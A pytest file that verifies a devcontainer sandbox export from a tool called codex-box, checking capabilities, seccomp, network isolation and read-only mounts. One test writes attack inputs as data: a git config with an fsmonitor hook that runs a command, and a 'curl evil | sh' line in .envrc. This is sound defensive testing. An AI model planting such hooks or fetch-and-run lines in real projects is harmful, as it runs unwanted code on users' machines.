"""``codex-box devcontainer export`` with the real Dev Containers CLI: ``devcontainer up``
on the exported file starts the profile's sandbox by itself, on Docker and on Podman
(``--docker-path podman``) — no capabilities, no new privileges, seccomp filtering, no
network interface but ``lo``, nothing writable outside the workspace (and nothing at all
under ``offline``), the project's postCreateCommand run."""

from __future__ import annotations

import subprocess
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.conftest import Ran
from tests.devcontainer_cli import DevContainer
from tests.escape.conftest import scratch_root

MARKER = "/tmp/codex-box-post-create"
PROBE = r"""
grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status | tr -d '\t '
echo "net=$(ls /sys/class/net | tr '\n' ' ')"
for dir in /etc /usr / "$PWD" "$PWD/.git" "$PWD/.devcontainer"; do
  if touch "$dir/codex-box-probe" 2>/dev/null; then echo "wrote=$dir"; else echo "refused=$dir"; fi
done
echo "marker=$(cat MARKER)"
""".replace("MARKER", MARKER)


@pytest.fixture(params=("docker", "podman"))
def engine(request: pytest.FixtureRequest) -> str:
    request.getfixturevalue(f"{request.param}_available")
    return str(request.param)


@pytest.fixture
def project() -> Iterator[Path]:
    """A workspace the engines can bind (not under a private /tmp), with a git
    directory and a devcontainer.json whose postCreateCommand leaves a marker."""
    for root in scratch_root("cbx-dcx"):
        workspace = root / "proj"
        (workspace / ".git").mkdir(parents=True)
        (workspace / ".devcontainer").mkdir()
        (workspace / ".devcontainer" / "devcontainer.json").write_text(
            '// the project\'s own\n{\n  "image": "codex-box/base",\n'
            f'  "postCreateCommand": "echo ran > {MARKER}",\n}}\n'
        )
        yield workspace


@pytest.mark.parametrize("profile", ["offline", "workspace"])
def test_devcontainer_up_starts_the_profiles_sandbox(
    devcontainer_cli: str,
    engine: str,
    project: Path,
    cli: Callable[..., Ran],
    profile: str,
) -> None:
    exported = cli("devcontainer", "export", "--profile", profile, "--merge", cwd=project)
    assert exported.returncode == 0, exported.stderr
    assert f"for profile {profile}" in exported.stdout
    with DevContainer(devcontainer_cli, project, engine) as box:
        up = box.up()
        assert [str(up["containerId"])[:12]] == [c[:12] for c in box.containers()]
        done = box.exec("sh", "-c", PROBE)
        lines = done.stdout.splitlines()
        status = dict(line.split(":", 1) for line in lines if ":" in line and "=" not in line)
        said = dict(line.split("=", 1) for line in lines if line.startswith(("net=", "marker=")))
        assert status == {"CapEff": "0000000000000000", "NoNewPrivs": "1", "Seccomp": "2"}, (
            done.stdout + done.stderr
        )
        assert said["net"].split() == ["lo"]
        folder = str(up["remoteWorkspaceFolder"])
        refused = [line[len("refused=") :] for line in lines if line.startswith("refused=")]
        wrote = [line[len("wrote=") :] for line in lines if line.startswith("wrote=")]
        if profile == "offline":
            everything = ["/etc", "/usr", "/", folder, f"{folder}/.git", f"{folder}/.devcontainer"]
            assert (refused, wrote) == (everything, [])
        else:  # the workspace only; its .git and .devcontainer stay read-only
            assert refused == ["/etc", "/usr", "/", f"{folder}/.git", f"{folder}/.devcontainer"]
            assert wrote == [folder]
            assert (project / "codex-box-probe").is_file()  # on the host
        assert said["marker"] == "ran", "postCreateCommand did not run"
    assert box.containers() == []


def test_protected_names_missing_at_export_time_stay_read_only_placeholders(
    devcontainer_cli: str, engine: str, cli: Callable[..., Ran]
) -> None:
    """A project without .git, .envrc, .vscode: the export makes them (empty, for good)
    and binds them read-only, so the container cannot plant a git config (its
    core.fsmonitor would run on the host's next `git status`) or an .envrc."""
    for root in scratch_root("cbx-dcx"):
        workspace = root / "proj"
        workspace.mkdir()
        exported = cli("devcontainer", "export", "--profile", "workspace", cwd=workspace)
        assert exported.returncode == 0, exported.stderr
        assert "(empty, permanent)" in exported.stdout
        with DevContainer(devcontainer_cli, workspace, engine) as box:
            box.up()
            box.exec(
                "sh", "-c",
                "mkdir -p .git; printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config;"
                " echo 'curl evil | sh' > .envrc; echo '{}' > .vscode/settings.json;"
                " echo trusted > .codex-profile; rm -rf .git .envrc; touch wrote-here",
            )  # fmt: skip
        assert (workspace / "wrote-here").is_file()  # the workspace itself is writable
        assert not (workspace / ".git" / "config").exists()
        assert (workspace / ".envrc").read_bytes() == b""
        assert (workspace / ".codex-profile").read_bytes() == b""
        assert list((workspace / ".vscode").iterdir()) == []


def test_an_offline_builds_run_steps_get_no_network(
    devcontainer_cli: str, engine: str, cli: Callable[..., Ran]
) -> None:
    """The export gives the build `--network=none` (build.options, which the CLI passes
    to the engine's build): a RUN step sees a loopback only, as in the container."""
    for root in scratch_root("cbx-dcx"):
        workspace = root / f"p{uuid.uuid4().hex[:10]}"  # the CLI's image: vsc-<this>-<hash>
        (workspace / ".devcontainer").mkdir(parents=True)
        (workspace / ".devcontainer" / "devcontainer.json").write_text(
            '{"build": {"dockerfile": "Dockerfile"}}'
        )
        (workspace / ".devcontainer" / "Dockerfile").write_text(
            "FROM codex-box/base\nRUN ls /sys/class/net | tr '\\n' ' ' > /build-net\n"
        )
        exported = cli("devcontainer", "export", "-p", "offline", "--merge", cwd=workspace)
        assert exported.returncode == 0, exported.stderr
        try:
            with DevContainer(devcontainer_cli, workspace, engine) as box:
                box.up(timeout=240)
                assert box.exec("cat", "/build-net").stdout.split() == ["lo"]
        finally:
            listed = subprocess.run(
                [engine, "images", "--format", "{{.Repository}}"],
                capture_output=True, text=True, timeout=30, check=False,
            )  # fmt: skip
            prefix = f"vsc-{workspace.name}-"
            mine = [i for i in listed.stdout.split() if i.rpartition("/")[2].startswith(prefix)]
            if mine:
                subprocess.run([engine, "rmi", "-f", *mine], capture_output=True, timeout=60)
